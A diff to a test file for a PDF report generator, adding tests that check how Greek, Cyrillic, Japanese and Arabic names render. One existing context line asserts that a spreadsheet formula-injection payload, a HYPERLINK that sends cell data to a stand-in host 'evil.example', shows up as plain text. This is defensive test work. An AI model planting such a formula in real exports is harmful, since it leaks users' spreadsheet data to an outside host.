@@ -88,6 +88,21 @@ test('hostile names are words in the PDF: no action, no script, no link, no atta
   expect(text.replaceAll(' ', '')).toContain('=HYPERLINK("http://evil.example/?"&A1,"Open")');
 });
 
+const boxes = 'shown as boxes here; the Word document of this report has them';
+
+test.each(['Ελληνική Τράπεζα', 'Акционерное общество «Ромашка»', 'Łódź, Ærø & Straße 2 – №4'])(
+  'the PDF has the letters of %s',
+  async (name) => {
+    const { text } = await openedPdf(await writePdf(documentWith([name]), madeAt));
+    expect(text).toContain(name);
+    expect(text).not.toContain(boxes);
+  },
+);
+
+test.each(['日本電気株式会社', 'شركة الأمن'])('the PDF says that %s is shown as boxes, and where it is legible', async (name) => {
+  expect((await openedPdf(await writePdf(documentWith([name]), madeAt))).text).toContain(boxes);
+});
+
 test('a table of many rows goes on to further pages, and every page has its number', async () => {
   const names = Array.from({ length: 45 }, (_, place) => `List ${place + 1}`);
   const { text, pages } = await openedPdf(await writePdf(documentWith(names), madeAt));
